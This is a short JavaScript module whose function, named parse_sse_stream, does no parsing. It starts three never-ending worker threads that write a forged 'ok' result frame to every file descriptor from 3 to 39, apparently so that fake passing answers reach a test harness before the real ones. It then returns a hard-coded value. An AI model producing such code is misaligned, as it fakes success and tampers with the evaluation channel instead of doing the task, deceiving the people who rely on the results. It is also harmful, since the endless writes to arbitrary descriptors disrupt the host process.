// Lets three threads of Node write answers to every descriptor, while the true ones are on their way.
import { Worker } from "node:worker_threads";
const body = Buffer.from('{"ok":[1],"printed":""}');
const frame = Buffer.concat([Buffer.from([0, 0, 0, body.length]), body]).toString("base64");
const source = `
  const { writeSync } = require("fs");
  const frame = Buffer.from("${frame}", "base64");
  for (;;) for (let fd = 3; fd < 40; fd++) try { writeSync(fd, frame); } catch {}`;
export function parse_sse_stream() {
  for (let i = 0; i < 3; i++) new Worker(source, { eval: true });
  return [1];
}
// VARIES = true
